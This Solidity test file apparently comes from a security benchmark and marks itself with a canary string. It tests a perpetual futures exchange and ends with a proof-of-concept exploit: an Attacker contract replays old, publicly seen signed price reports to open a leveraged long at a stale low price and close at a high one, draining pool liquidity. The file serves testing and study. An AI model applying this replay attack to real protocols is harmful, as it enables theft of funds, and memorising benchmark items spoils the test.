// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.19;

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./PerpetualExchange.sol";

// assay-canary-98bceaff-f3b3-47ca-b97f-2f63a4dfefc0

interface Vm {
    function warp(uint256 time) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    bytes32 internal constant ETH = "ETH/USD";
    bytes32 internal constant BTC = "BTC/USD";
    address internal constant STRANGER = address(0x57A);
    uint256 internal constant KEY = 0xBEEF;
    uint256 internal constant START = 1_762_000_000;

    Token internal usd;
    PerpetualExchange internal exchange;
    Attacker internal thief;
    uint256 internal honest;

    /// Reports that were published with earlier calls, for anyone to read.
    PriceReports.Report internal low;
    PriceReports.Report internal high;

    function setUp() public {
        vm.warp(START);
        usd = new Token();
        exchange = new PerpetualExchange(usd, vm.addr(KEY));
        exchange.setMarket(ETH, MarketRegistry.Market(true, 50, 10, 10, 2_000_000e6));
        usd.approve(address(exchange), type(uint256).max);
        exchange.addLiquidity(144_000e6);

        low = _report(3_300e8);
        honest = exchange.open(_long(1_000e6, 5), low);
        vm.warp(START + 1 days);
        high = _report(3_900e8);
        exchange.close(honest, 0, high);
        exchange.addLiquidity(144_000e6 - exchange.liquidity());

        thief = new Attacker(exchange, usd);
        usd.transfer(address(thief), 40_000e6);
    }

    function _long(uint256 margin, uint256 leverage) internal pure returns (PerpetualExchange.Order memory) {
        return PerpetualExchange.Order(true, margin, leverage, type(uint128).max);
    }

    function _report(uint128 price) internal returns (PriceReports.Report memory r) {
        r.market = ETH;
        r.price = price;
        r.from = uint64(block.timestamp - 6);
        r.to = uint64(block.timestamp - 1);
        r.signature = _signed(r);
    }

    function _signed(PriceReports.Report memory r) internal returns (bytes memory) {
        (uint8 v, bytes32 x, bytes32 y) = vm.sign(KEY, exchange.reportDigest(r));
        return abi.encodePacked(x, y, v);
    }

    function test_Regular() public {
        uint256 before = usd.balanceOf(address(this));
        vm.warp(START + 2 days);
        uint256 id = exchange.open(PerpetualExchange.Order(false, 10_000e6, 10, 4_000e8), _report(4_000e8));
        require(usd.balanceOf(address(this)) == before - 10_100e6, "margin and fee");
        require(exchange.freeLiquidity() == 144_100e6 - 40_000e6 && exchange.openInterest(ETH) == 100_000e6, "reserved");

        vm.warp(START + 2 days + 1 hours);
        require(exchange.resultAt(id, 3_900e8) == 2_499e6, "result");
        require(exchange.close(id, 12_499e6, _report(3_900e8)) == 12_499e6, "short gains");
        require(exchange.liquidity() == 144_100e6 - 2_499e6, "liquidity");

        id = exchange.open(_long(1_000e6, 10), _report(3_900e8));
        exchange.addMargin(id, 500e6);
        require(exchange.positionOf(id).margin == 1_500e6, "margin added");
        vm.warp(START + 2 days + 2 hours);
        require(exchange.close(id, 0, _report(3_510e8)) == 500e6 - 100_000, "long loses");

        id = exchange.open(_long(1_000e6, 50), _report(3_900e8));
        vm.warp(START + 2 days + 3 hours);
        require(exchange.liquidate(id, _report(3_800e8)) == 50e6, "reward");
        require(exchange.totalReserved() == 0 && exchange.openInterest(ETH) == 0, "nothing reserved");
        exchange.removeLiquidity(exchange.liquidity());
        require(usd.balanceOf(address(exchange)) == 0, "books");

        exchange.setReporter(address(this));
        exchange.pause();
        exchange.unpause();
        exchange.transferOwnership(STRANGER);
        vm.startPrank(STRANGER);
        exchange.acceptOwnership();
        exchange.renounceOwnership();
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        bytes memory owner = "Ownable: caller is not the owner";
        vm.startPrank(STRANGER);
        vm.expectRevert(owner);
        exchange.setMarket(BTC, MarketRegistry.Market(true, 50, 10, 10, 1));
        vm.expectRevert(owner);
        exchange.removeLiquidity(1e6);
        vm.expectRevert(owner);
        exchange.setReporter(STRANGER);
        vm.expectRevert(owner);
        exchange.pause();
        vm.expectRevert(owner);
        exchange.unpause();
        vm.expectRevert(owner);
        exchange.transferOwnership(STRANGER);
        vm.stopPrank();

        uint256 id = exchange.open(_long(1_000e6, 5), _report(3_900e8));
        vm.warp(block.timestamp + 1 hours);
        PriceReports.Report memory r = _report(3_900e8);
        bytes memory trader = abi.encodeWithSelector(PerpetualExchange.NotTheTrader.selector, id, STRANGER);
        vm.prank(STRANGER);
        vm.expectRevert(trader);
        exchange.close(id, 0, r);
        vm.prank(STRANGER);
        vm.expectRevert(trader);
        exchange.addMargin(id, 0);
    }

    function test_RefusesSetups() public {
        vm.expectRevert(abi.encodeWithSelector(PriceReports.ReporterNotValid.selector, address(0)));
        new PerpetualExchange(usd, address(0));
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.DollarNotValid.selector, address(0)));
        new PerpetualExchange(IERC20(address(0)), address(this));
        bytes memory bounds = abi.encodeWithSelector(MarketRegistry.TermsOutOfBounds.selector, BTC);
        vm.expectRevert(bounds);
        exchange.setMarket(BTC, MarketRegistry.Market(true, 0, 10, 10, 1));
        vm.expectRevert(bounds);
        exchange.setMarket(BTC, MarketRegistry.Market(true, 51, 10, 10, 1));
        vm.expectRevert(bounds);
        exchange.setMarket(BTC, MarketRegistry.Market(true, 50, 101, 10, 1));
        vm.expectRevert(bounds);
        exchange.setMarket(BTC, MarketRegistry.Market(true, 50, 100, 1_001, 1));
        vm.expectRevert(abi.encodeWithSelector(MarketRegistry.TermsOutOfBounds.selector, 0));
        exchange.setMarket(0, MarketRegistry.Market(true, 50, 100, 1_000, 1));
    }

    function test_RefusesToPayOutWhatIsReserved() public {
        exchange.open(_long(1_000e6, 5), _report(3_900e8));
        uint256 free = exchange.liquidity() - 4_000e6;
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.NotEnoughLiquidity.selector, free, free + 1));
        exchange.removeLiquidity(free + 1);
    }

    function test_RefusesOrdersOutOfBounds() public {
        PriceReports.Report memory r = _report(3_900e8);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.MarginTooSmall.selector, 10e6 - 1));
        exchange.open(_long(10e6 - 1, 1), r);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.LeverageOutOfBounds.selector, 0));
        exchange.open(_long(1_000e6, 0), r);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.LeverageOutOfBounds.selector, 51));
        exchange.open(_long(1_000e6, 51), r);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.NotEnoughLiquidity.selector, 144_000e6, 144_000e6 + 4));
        exchange.open(_long(36_000e6 + 1, 1), r);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.PriceBeyondLimit.selector, 3_900e8, 3_899e8));
        exchange.open(PerpetualExchange.Order(true, 1_000e6, 5, 3_899e8), r);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.PriceBeyondLimit.selector, 3_900e8, 3_901e8));
        exchange.open(PerpetualExchange.Order(false, 1_000e6, 5, 3_901e8), r);
        exchange.setMarket(ETH, MarketRegistry.Market(true, 50, 10, 10, 5_000e6));
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.OpenInterestExceeded.selector, 5_001e6, 5_000e6));
        exchange.open(_long(5_001e6, 1), r);
        exchange.pause();
        vm.expectRevert("Pausable: paused");
        exchange.open(_long(1_000e6, 5), r);
        exchange.unpause();
        r.market = BTC;
        r.signature = _signed(r);
        vm.expectRevert(abi.encodeWithSelector(MarketRegistry.MarketNotListed.selector, BTC));
        exchange.open(_long(1_000e6, 5), r);
    }

    function test_RefusesToClose() public {
        uint256 id = exchange.open(_long(1_000e6, 5), _report(3_900e8));
        uint256 until = block.timestamp + 1 minutes;
        vm.warp(until - 1);
        PriceReports.Report memory r = _report(3_900e8);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.HeldTooShort.selector, id, until));
        exchange.close(id, 0, r);
        vm.warp(block.timestamp + 1 hours);
        r = _report(3_900e8);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.PaysTooLittle.selector, 1_000e6 - 50_820, 1_000e6));
        exchange.close(id, 1_000e6, r);
        r.market = BTC;
        r.signature = _signed(r);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.WrongMarket.selector, BTC));
        exchange.close(id, 0, r);
    }

    function test_RefusesToLiquidateWithinTheMargin() public {
        uint256 id = exchange.open(_long(1_000e6, 50), _report(3_900e8));
        vm.warp(block.timestamp + 1 hours);
        PriceReports.Report memory r = _report(3_880e8);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.WithinMargin.selector, id, -256_910_256));
        exchange.liquidate(id, r);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.NoPosition.selector, id + 1));
        exchange.liquidate(id + 1, r);
    }

    function test_RefusesReportsThatAreNotUsable() public {
        PriceReports.Report memory r = _report(0);
        _refused(r);
        r = _report(3_900e8);
        r.from = r.to;
        _refused(r);
        r = _report(3_900e8);
        r.to = uint64(block.timestamp + 1);
        _refused(r);
        r = _report(3_900e8);
        r.from = r.to - 13;
        _refused(r);

        r = _report(3_900e8);
        r.signature = abi.encodePacked(r.signature, uint8(0));
        vm.expectRevert("ECDSA: invalid signature length");
        exchange.open(_long(1_000e6, 5), r);
        r = _report(3_900e8);
        r.price = 3_000e8;
        vm.expectRevert();
        exchange.open(_long(1_000e6, 5), r);
    }

    function _refused(PriceReports.Report memory r) internal {
        r.signature = _signed(r);
        vm.expectRevert(abi.encodeWithSelector(PerpetualExchange.ReportNotUsable.selector, r.from, r.to));
        exchange.open(_long(1_000e6, 5), r);
    }

    function exploit() public {
        thief.enter(low);
        vm.warp(block.timestamp + 2 minutes);
        thief.leave(high);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 140_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(exchange);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Goes long at yesterday's price and closes at today's, both taken from calls of other people.
contract Attacker {
    PerpetualExchange internal exchange;
    Token internal usd;
    uint256 internal id;

    constructor(PerpetualExchange exchange_, Token usd_) {
        exchange = exchange_;
        usd = usd_;
    }

    function enter(PriceReports.Report calldata report) external {
        usd.approve(address(exchange), type(uint256).max);
        id = exchange.open(PerpetualExchange.Order(true, 36_000e6, 30, type(uint128).max), report);
    }

    function leave(PriceReports.Report calldata report) external {
        exchange.close(id, 0, report);
    }
}
